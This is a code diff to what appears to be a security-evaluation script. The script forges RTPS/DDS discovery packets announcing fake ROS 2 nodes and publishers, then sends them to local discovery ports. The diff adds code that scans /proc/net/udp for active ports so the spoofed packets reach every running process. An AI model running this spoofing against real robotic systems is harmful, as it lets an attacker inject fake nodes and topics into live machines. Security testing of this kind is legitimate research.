@@ -11,9 +11,12 @@ import os
 import socket
 import sys
 import time
+from pathlib import Path
 
 from evaluation.rtps_attack import NAMES_PORTS, node_list, ports, publisher
 from socialbot.bridge.environment import spinning_node, wait_for
+
+FIRST_DOMAIN_PORT = 7400
 
 NODES: dict[str, list[bytes]] = {
     "node": [b"head", b"\xff\xfe"],
@@ -30,6 +33,12 @@ PUBLISHERS: dict[str, tuple[bytes, bytes]] = {
     "module": (b"TOPIC", b"forged_module::msg::dds_::String_"),
 }
 """Name in DDS of the topic of a publisher, and of its type, by kind."""
+
+
+def names_ports() -> list[int]:
+    """Ports of `ros_discovery_info` in use, in all domains: each process of the machine takes the next free one."""
+    used = (int(line.split()[1].rpartition(":")[2], 16) for line in Path("/proc/net/udp").read_text().splitlines()[1:])
+    return sorted(set(used) & set(range(NAMES_PORTS.start, FIRST_DOMAIN_PORT)))
 
 
 def main(topic: str, kind: str) -> None:
@@ -53,7 +62,7 @@ def main(topic: str, kind: str) -> None:
             else:
                 name, type_name = PUBLISHERS[kind]
                 packet = publisher(endpoint[:12], name.replace(b"TOPIC", b"rt" + topic.encode()), type_name, number)
-            for port in (*NAMES_PORTS, *ports(domain)):
+            for port in (*names_ports(), *ports(domain)):
                 sender.sendto(packet, ("127.0.0.1", port))
             time.sleep(0.3)
 
